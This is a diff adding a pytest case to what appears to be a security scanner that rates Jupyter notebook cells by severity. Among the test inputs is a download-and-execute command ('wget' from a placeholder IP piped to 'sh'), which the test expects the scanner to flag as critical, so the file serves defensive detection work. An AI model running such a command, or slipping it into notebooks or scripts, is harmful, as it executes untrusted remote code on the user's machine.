@@ -1,5 +1,7 @@
 """How bad code beside a model is depends on who runs it, and when."""
 
+import json
+
 import pytest
 
 from harness.inspecting import inspect_bytes
@@ -7,6 +9,20 @@ from pratique.core.finding import Severity
 
 MODEL = "from torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        "
 SCRIPT = "import os, subprocess\n\ndef act(x, cmd):\n    "
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("!pip install -q transformers", Severity.LOW),
+        ("!wget https://example.com/model.bin", Severity.LOW),
+        ("!wget http://192.0.2.1/x && sh x", Severity.CRITICAL),
+        ("!./canary", Severity.HIGH),
+    ],
+)
+def test_cells_may_install_and_fetch(command: str, severity: Severity) -> None:
+    cell = {"cell_type": "code", "source": [command]}
+    assert worst(json.dumps({"nbformat": 4, "cells": [cell]})) is severity
 
 
 def worst(source: str) -> Severity:
